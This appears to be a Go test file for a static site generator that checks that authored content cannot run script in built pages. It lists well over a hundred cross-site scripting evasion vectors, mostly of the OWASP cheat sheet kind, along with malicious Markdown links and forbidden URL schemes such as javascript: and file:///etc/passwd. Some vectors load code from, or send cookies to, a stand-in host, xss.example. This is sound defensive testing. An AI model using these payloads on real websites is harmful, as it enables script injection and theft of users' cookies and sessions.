//go:build unix

package ordeal_test

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/page"
)

// vectors are ways to have a page run something, of the kinds that the OWASP XSS Filter Evasion Cheat Sheet lists (from
// memory), each calling one of the functions that the sentinel watches.
var vectors = []string{
	// plain, and in other letters
	`<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`,
	`<script>alert('XSS')</script>`,
	`<ScRiPt>alert('XSS')</ScRiPt>`,
	`<<SCRIPT>alert("XSS");//\<</SCRIPT>`,
	`<SCRIPT>String.fromCharCode(88,83,83);alert(1)</SCRIPT>`,
	`'';!--"<XSS>=&{()}`,
	`';alert(String.fromCharCode(88,83,83))//';alert(1)//"--></SCRIPT>">'><SCRIPT>alert(1)</SCRIPT>`,
	`\"><script>alert('XSS')</script>`,
	`</script><script>alert('XSS');</script>`,
	`</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
	`</textarea><script>alert(1)</script>`,
	`<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>`,
	`<SCRIPT/SRC="https://xss.example/xss.js"></SCRIPT>`,
	`<SCRIPT SRC=//xss.example/.j>`,
	`<SCRIPT SRC=https://xss.example/xss.js?< B >`,
	`<SCRIPT a=">" SRC="https://xss.example/xss.js"></SCRIPT>`,
	`<SCRIPT =">" SRC="https://xss.example/xss.js"></SCRIPT>`,
	`<SCRIPT a=">" '' SRC="https://xss.example/xss.js"></SCRIPT>`,
	`<SCRIPT "a='>'" SRC="https://xss.example/xss.js"></SCRIPT>`,
	"<SCRIPT a=`>` SRC=\"https://xss.example/xss.js\"></SCRIPT>",
	`<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://xss.example/xss.js"></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script>alert(1)`,
	`<script x> alert(1) </script 1=2`,
	`<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
	`<!--><script>alert(1)</script>-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>`,
	// images
	`<IMG SRC="javascript:alert('XSS');">`,
	`<IMG SRC=javascript:alert('XSS')>`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	`<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
	"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
	`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`,
	`<IMG SRC=# onmouseover="alert('xxs')">`,
	`<IMG SRC= onmouseover="alert('xxs')">`,
	`<IMG onmouseover="alert('xxs')">`,
	`<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
	`<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
	`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
	`<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
	"<IMG SRC=\"jav\tascript:alert('XSS');\">",
	`<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
	`<IMG SRC=" &#14;  javascript:alert('XSS');">`,
	`<IMG SRC="javascript:alert('XSS')"`,
	`<IMG DYNSRC="javascript:alert('XSS')">`,
	`<IMG LOWSRC="javascript:alert('XSS')">`,
	`<IMG SRC='vbscript:msgbox("XSS")'>`,
	`<IMG SRC="livescript:alert(1)">`,
	`<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
	`<img src="https://xss.example/transfer?amount=1000">`,
	`<img src=x:alert(alt) onerror=eval(src) alt=0>`,
	`<img/src=x/onerror=alert(1)>`,
	"<img src=x\nonerror\n=\nalert(1)>",
	`<IMG SRC="https://xss.example/a.png" ISMAP USEMAP="#m">`,
	`<image src=x onerror=alert(1)>`,
	`<picture><source srcset=x><img src=x onerror=alert(1)></picture>`,
	`<video><source onerror="alert(1)"></video>`,
	`<audio src=x onerror=alert(1)></audio>`,
	`<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
	// other elements
	`<BODY BACKGROUND="javascript:alert('XSS')">`,
	`<BODY ONLOAD=alert('XSS')>`,
	"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
	`<BGSOUND SRC="javascript:alert('XSS');">`,
	`<BR SIZE="&{alert('XSS')}">`,
	`<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
	`<LINK REL="stylesheet" HREF="https://xss.example/xss.css">`,
	`<STYLE>@import'https://xss.example/xss.css';</STYLE>`,
	`<META HTTP-EQUIV="Link" Content="<https://xss.example/xss.css>; REL=stylesheet">`,
	`<STYLE>BODY{-moz-binding:url("https://xss.example/xssmoz.xml#xss")}</STYLE>`,
	`<STYLE>@im\port'\ja\vasc\ript:alert("XSS")';</STYLE>`,
	`<XSS STYLE="behavior: url(xss.htc);">`,
	`<XSS STYLE="xss:expression(alert('XSS'))">`,
	`<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
	`<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
	`<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
	`<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
	`<DIV STYLE="background-image: url(&#1;javascript:alert('XSS'))">`,
	`<DIV STYLE="width: expression(alert('XSS'));">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://;URL=javascript:alert('XSS');">`,
	`<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">`,
	`<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
	`<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
	`<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
	`<iframe src=https://xss.example/scriptlet.html <`,
	`<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
	`<TABLE BACKGROUND="javascript:alert('XSS')">`,
	`<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
	`<BASE HREF="javascript:alert('XSS');//">`,
	`<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>`,
	`<object data="javascript:alert(1)">`,
	`<EMBED SRC="https://xss.example/xss.swf" AllowScriptAccess="always"></EMBED>`,
	`<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
	`<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>`,
	`<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(1)</SCRIPT>"></BODY></HTML>`,
	`<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-`,
	`<isindex type=image src=1 onerror=alert(1)>`,
	`<marquee onstart=alert(1)>`,
	`<details open ontoggle=alert(1)>`,
	`<select autofocus onfocus=alert(1)>`,
	`<input autofocus onfocus=alert(1)>`,
	`<textarea autofocus onfocus=alert(1)>`,
	`<keygen autofocus onfocus=alert(1)>`,
	`<form><button formaction=javascript:alert(1)>go</button></form>`,
	`<form id=x></form><button form=x formaction="javascript:alert(1)">go</button>`,
	`<math><mi xlink:href="javascript:alert(1)">go</mi></math>`,
	`<math href="javascript:alert(1)">go</math>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>`,
	`<custom-element onclick=alert(1) tabindex=0 autofocus onfocus=alert(1)>`,
	`<gripleaf-explorer id="hit" data-calculator="stop" data-query="stop?speed=1" onclick="alert(1)"></gripleaf-explorer>`,
	`<b id="stop" data-do="stop" class="explorer">clobbered</b>`,
	`<div contenteditable onbeforeinput=alert(1)>x</div>`,
	`<p onpointerrawupdate=alert(1) style="position:fixed;inset:0">x</p>`,
	// links
	`<A HREF="javascript:document.location='https://xss.example/'">XSS</A>`,
	`<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<a href="&#x6A;avascript:alert(1)">x</a>`,
	`<a href=" &#14; javascript:alert(1)">x</a>`,
	`<a onmouseover="alert(document.cookie)">xxs link</a>`,
	`<a onmouseover=alert(document.cookie)>xxs link</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="//xss.example/" ping="https://xss.example/ping">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	"<a/href=\"javas\ncript:alert(1)\">x</a>",
	// SVG
	`<svg/onload=alert('XSS')>`,
	`<svg onload=alert(1)//`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><script href="data:text/javascript,alert(1)"/></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text y=20>go</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><set attributeName="onmouseover" to="alert(1)"/></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>`,
	`<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<svg><title><style><img src=x onerror=alert(1)></style></title></svg>`,
	// Markdown
	`[a](https://ferndale.example/"onmouseover="alert(1))`,
	`[a](https://ferndale.example/ "\" onmouseover=\"alert(1)")`,
	"`<script>alert(1)</script>`",
	`$\text{<script>alert(1)</script>}$`,
	`<https://ferndale.example/"onmouseover="alert(1)>`,
	`| a<script>alert(1)</script> |` + "\n" + `|---|` + "\n" + `| <img src=x onerror=alert(1)> |`,
	`a[^1]` + "\n\n" + `[^1]: <script>alert(1)</script>`,
}

// refused are vectors of Markdown that are faults, each at its place.
var refused = []string{
	`![a](x"onerror="alert(1))`,
	`![a" onerror="alert(1)](x)`,
	`$\href{javascript:alert(1)}{x}$`,
	`[<img src=x onerror=alert(1)>](term:grip)`,
	`[a](term:grip"onmouseover="alert\(1\))`,
	`[**<script>alert(1)</script>**](#x"onclick="alert\(1\))`,
	`## [a](<moment:#x"onmouseover="alert(1)>)`,
	`![a](x){onerror=alert(1)}`,
	`![a](calc:stop?speed="><script>alert(1)</script>)`,
	`[a](calc:<script>alert\(1\)</script>#x)`,
	`[a](source:<script>alert\(1\)</script>)`,
}

// programs are addresses that a link or an image of a lesson must not have.
var programs = []string{
	"javascript:alert(1)", "JaVaScRiPt:alert(1)", "java&#x09;script:alert(1)", "&#x6A;avascript:alert(1)", "&#1;javascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
	"vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,x", "blob:https://x/y", "file:///etc/passwd", "view-source:x", "feed:javascript:alert(1)",
}

// several is a site of several hands with every vector in its text, and in every place that takes a text.
func several() files {
	f := files{"site.yaml": "", "sources.yaml": "", "en/glossary.yaml": ""}
	names := []string{"stop"}
	var text, sources, glossary strings.Builder
	text.WriteString(head + "![From 60 km/h](calc:stop?speed=60km/h&grip=0.8)\n\n")
	quote := func(s string) string {
		b, _ := json.Marshal(strings.ReplaceAll(s, "\n", " "))
		return string(b)
	}
	for i, v := range vectors {
		fmt.Fprintf(&text, "Vector %d. [source](source:s%d) and [term](term:t%d)\n\n> %s\n\n", i, i, i, strings.ReplaceAll(v, "\n", "\n> "))
		fmt.Fprintf(&sources, "s%d: {title: %s, by: %s, note: %s}\n", i, quote(v), quote(v), quote(v))
		fmt.Fprintf(&glossary, "t%d: {term: %s, means: %s}\n", i, quote(v), quote(v))
		if i%10 == 0 {
			name := fmt.Sprint("titles-", i)
			names = append(names, name)
			f["en/"+name+".md"] = "---\ntitle: " + quote(v) + "\nquestion: " + quote(v) + "\nsummary: " + quote(v) + "\ndate: 2026-01-01\ncorrected: [{date: 2026-01-02, note: " + quote(v) +
				"}]\n---\n\n![Caption " + strings.NewReplacer("[", `\[`, "]", `\]`, "\n", " ").Replace(v) + "](calc:stop?speed=60km/h)\n"
		}
	}
	f["en/stop.md"], f["sources.yaml"], f["en/glossary.yaml"] = text.String(), sources.String(), glossary.String()
	f["site.yaml"] = "title: " + quote(vectors[1]) + "\nsummary: " + quote(vectors[6]) + "\npublisher: " + quote(vectors[7]) + "\nlanguages: [en]\nhands: several\nlessons: [" + strings.Join(names, ", ") + "]\nlook: {footer: " + quote(vectors[1]) + "}\n"
	return f
}

// With several hands, nothing that an author writes runs in a page, even where a browser does not know the policy that
// forbids it.
func TestVectorsOfSeveralHands(t *testing.T) {
	t.Parallel()
	folder, _ := several().site(t)
	o := run(t, folder, "build", "site", "--out", "built")
	if o.code != 0 {
		t.Fatalf("exit code %d: %.3000s", o.code, o.err)
	}
	site := serve(t, filepath.Join(folder, "built"))
	b := openTab(t, sentinel)
	call(b, page.SetBypassCSP, page.SetBypassCSPParams{Enabled: true})
	for _, path := range []string{"stop.html", "index.html", "glossary.html", "sources.html", "titles-0.html", "titles-10.html", "titles-50.html", "titles-100.html", "titles-120.html"} {
		b.goTo(site + path)
		value[bool](b, `(document.querySelectorAll("main *").forEach(e => { for (const kind of ["mouseover", "focus", "click"]) e.dispatchEvent(new Event(kind, {bubbles: false})) }), true)`)
		b.unharmed(path, site)
	}
	b.goTo(site + "stop.html")
	value[bool](b, `(document.querySelector("[data-do=seek]").click(), document.querySelector(".seek-field").value = "alert", document.querySelector(".seek-field").dispatchEvent(new Event("input")), true)`)
	b.until(`document.querySelectorAll(".seek li").length > 0`)
	b.unharmed("search", site)
	if n := value[int](b, `document.querySelectorAll("blockquote").length`); n != len(vectors) {
		t.Errorf("%d vectors have a place of their own, of %d", n, len(vectors))
	}
}

// The policy of the page holds by itself, with raw HTML in the page that no build would let in. Only a page that sends
// its reader elsewhere is beyond it.
func TestPolicyStopsVectors(t *testing.T) {
	t.Parallel()
	folder, _ := bare().site(t)
	mustRun(t, folder, "build", "site", "--out", "built")
	whole, err := os.ReadFile(filepath.Join(folder, "built", "stop.html"))
	if err != nil {
		t.Fatal(err)
	}
	before, after, found := strings.Cut(string(whole), "</main>")
	if !found {
		t.Fatal("the page has no main element")
	}
	var chosen []string
	for i := 0; i < len(vectors); i += 5 {
		if !strings.Contains(strings.ToUpper(vectors[i]), "HTTP-EQUIV") {
			name := fmt.Sprint("v", i)
			chosen = append(chosen, name)
			if err := os.WriteFile(filepath.Join(folder, "built", name+".html"), []byte(before+vectors[i]+"</main>"+after), 0o666); err != nil {
				t.Fatal(err)
			}
		}
	}
	site := serve(t, filepath.Join(folder, "built"))
	b := openTab(t, sentinel)
	for _, name := range chosen {
		b.goTo(site + name + ".html")
		if struck := value[string](b, `JSON.stringify(struck)`); struck != "[]" {
			t.Errorf("%s: %s was run", name, struck)
		}
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	for _, url := range b.requests {
		if strings.Contains(url, "xss.example") {
			t.Errorf("%s was asked for", url)
		}
	}
}

// What is wrong in Markdown is a fault, whatever it holds.
func TestRefusedVectors(t *testing.T) {
	f := bare().with(lesson(strings.Join(refused, "\n\n") + "\n"))
	f["site.yaml"] += "hands: several\n"
	folder, _ := f.site(t)
	o := run(t, folder, "build", "site", "--out", "built")
	for i, v := range refused {
		if !strings.Contains(o.err, fmt.Sprintf("stop.md:%d:", 5+2*i)) {
			t.Errorf("%s is no fault", v)
		}
	}
}

// Addresses that are programs are faults at their place, in links and in images.
func TestProgramsAreFaults(t *testing.T) {
	var text strings.Builder
	for _, p := range programs {
		fmt.Fprintf(&text, "[a](%s)\n\n![a](%s)\n\n", p, p)
	}
	f := bare().with(lesson(text.String()))
	f["site.yaml"] += "hands: several\n"
	folder, _ := f.site(t)
	o := run(t, folder, "build", "site", "--out", "built")
	for i, p := range programs {
		for j, code := range []string{fmt.Sprintf("stop.md:%d:5: links to ", 5+4*i), fmt.Sprintf("stop.md:%d:6: this picture is not of the site", 7+4*i)} {
			if !strings.Contains(o.err, code) && !strings.Contains(o.err, fmt.Sprintf("stop.md:%d:1: ", 5+4*i+2*j)) {
				t.Errorf("%s: no fault %s", p, code)
			}
		}
	}
}
